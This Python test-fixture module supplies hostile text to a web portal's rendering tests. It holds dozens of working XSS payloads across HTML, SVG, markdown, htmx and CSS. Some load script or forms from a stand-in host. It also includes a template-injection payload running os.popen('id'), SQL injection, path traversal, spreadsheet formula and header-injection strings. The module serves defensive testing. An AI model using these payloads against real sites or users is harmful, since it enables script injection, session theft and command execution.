"""What nobody should be able to make a page do, as text. Each that runs sets `window.pwned`.

COMPTOIR_PAYLOADS names a directory of more: every line of its *.txt, every string in its *.json, and every
*.eml whole, cut to what a message may hold.
"""

import json
import os
from datetime import date
from pathlib import Path
from random import Random

from portal.kernel.text import MESSAGE_LIMIT, NAME_LIMIT

RUN = "window.pwned=1"
ELSEWHERE = "//evil.example"  # no request may ever go there

HTML = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"</title></textarea></style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=`x`onerror={RUN}>",
    f"<img src=x:x onerror\x0c={RUN}//",
    f'<IMG """><SCRIPT>{RUN}</SCRIPT>">',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<dialog open onfocus={RUN} autofocus>x</dialog>",
    f"<button popovertarget=x onbeforetoggle={RUN}>x",
    "<!--",
    "<plaintext>",
    "<textarea>",
    "</main></body></html>",
    "<template><b>x",
    "<table><tr><td>x",
    f"<base href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content=0;url={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<form action={ELSEWHERE}><button>x",
)
ATTRIBUTES = (
    f'" autofocus onfocus="{RUN}',
    f"' onmouseover='{RUN}",
    f'"><svg onload={RUN}>',
    f"' autofocus onfocus={RUN} x='",
    f"` onerror=`{RUN}",
    f"x onclick={RUN} y",
    f'"style="position:fixed;inset:0"onclick="{RUN}',
    f"'-{RUN}-'",
    f'";{RUN};"',
    f'\\";{RUN}//',
    "&quot;&gt;&lt;img src=x onerror=window.pwned=1&gt;",
    "&#34;&#62;&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
)
SVG = (
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>x",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'>",
    f"<math><a xlink:href=javascript:{RUN}>x",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x",
)
MUTATION = (
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<select><template><img src=x onerror={RUN}></select>",
)
TEMPLATES = (
    "{{ 7*7 }}{% for x in config %}{{ x }}{% endfor %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    f"${{{RUN}}} #{{7*7}} <%= 7*7 %>",
    "%(name)s %s %d %",
    "{0.__class__} {name}",
    "{# x #} {% raw %}",
)
HTMX = (
    f"<b hx-get=/profile hx-trigger=load hx-on:load={RUN}>x",
    "<b data-hx-post=/logout data-hx-trigger=load>x",
    f"<b hx-on::after-settle={RUN}>x",
    "<hx-partial hx-target=body hx-swap=innerHTML><h1>x</h1></hx-partial>",
    "<hx-upsert hx-target=body>x</hx-upsert>",
    '<template hx type="partial" hx-target="body"><h1>x</h1></template>',
    f"<div hx-ws:connect={ELSEWHERE}>x",
    f"<div hx-vals='js:{RUN}'>x",
    '{"removed":"x","signed_out":true}',
)
CSS = (
    "<style>*{display:none}</style>",
    f"<div style=background:url({ELSEWHERE})>x",
    f"</style><style>@import '{ELSEWHERE}'</style>",
    "<link rel=stylesheet href=data:text/css,*{display:none}>",
    f"x;}} body{{background:url({ELSEWHERE}/x)}}",
)
MARKDOWN = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](\x01javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"<javascript:{RUN}>",
    f"![x](javascript:{RUN})",
    f"![x](https:{ELSEWHERE}/x.png)",
    f'[x](https://a.example "onmouseover={RUN} ")',
    f'[x](https://a.example"onmouseover={RUN})',
    f'https://a.example/"onmouseover={RUN}//',
    f"[x][y]\n\n[y]: javascript:{RUN}",
    f"`<img src=x onerror={RUN}>`",
    f"```<script>{RUN}</script>\n<img src=x onerror={RUN}>\n```",
    f"> <img src=x onerror={RUN}>\n\n- <script>{RUN}</script>",
    f"www.a.example/<script>{RUN}</script>",
    f"[![x](x)](javascript:{RUN})",
    f"javascript://a.example/%0a{RUN}",
)
STRANGE = (
    "\u202egnirts desrever\u202c and on",
    "\u2066\u202e\u2067no end",
    "שלום (עולם) <b>!",
    "مرحبا: بالعالم? 12",
    "a\u200bb\u200c\u200d\ufeff\u2060c",
    "nul\x00byte \x1b[31m \x08 \x7f",
    "lone \ud800 surrogate \udfff",
    "Z" + "\u0351\u036b\u0343\u032a\u0302" * 12 + "A" + "\u0334\u035c\u0333" * 8,
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏽" * 6,
    "﷽" * 20,
    "𝒳" * 60,
    "W" * 75,
    "\u3000\u2003 spaces \u00a0",
    "ﬀ İ ı ß ǆ",
    "../../../etc/passwd",
    "'; DROP TABLE message; --",
    "=cmd|' /C calc'!A0",
    "\r\nSet-Cookie: a=b\r\n\r\n<b>",
)
LONG = ("W" * 9_000, "[" * 9_900, "שלום" * 2_000, "👩‍👩‍👧‍👦" * 900, "> " * 2_000 + "deep", "*_" * 4_000, "<" * 9_000)

OURS = HTML + ATTRIBUTES + SVG + MUTATION + TEMPLATES + HTMX + CSS + MARKDOWN + STRANGE

MARKUP = [text for text in OURS if "<" in text and len(text) > 12]  # what may stand in no page as it is


def more() -> list[str]:
    """The payloads that COMPTOIR_PAYLOADS names; none without it."""
    named = os.environ.get("COMPTOIR_PAYLOADS")
    found: list[str] = []
    for path in sorted(Path(named).rglob("*")) if named else ():
        if path.suffix == ".txt":
            found += path.read_text(errors="surrogateescape").splitlines()
        elif path.suffix == ".json":
            found += _strings(json.loads(path.read_text()))
        elif path.suffix == ".eml":
            found.append(path.read_bytes().decode(errors="surrogateescape"))
    return list(dict.fromkeys(text[:MESSAGE_LIMIT] for text in found if text.strip()))


def texts() -> list[str]:
    """All, for a message."""
    return [*OURS, *LONG, *more()]


def names() -> list[str]:
    """All, cut to what a name may have; what does not fit is still an odd name."""
    return list(dict.fromkeys(text[:NAME_LIMIT] for text in [*OURS, *more()]))


def sample(all_of_them: list[str], count: int) -> list[str]:
    """So many of them, others every day, and always the same one of the right-to-left."""
    chosen = Random(date.today().toordinal()).sample(all_of_them, min(count, len(all_of_them)))
    return [*chosen, STRANGE[2]] if STRANGE[2] not in chosen else chosen


def _strings(found: object) -> list[str]:
    if isinstance(found, str):
        return [found]
    if isinstance(found, dict):
        found = list(found.values())
    return [text for one in found for text in _strings(one)] if isinstance(found, list) else []
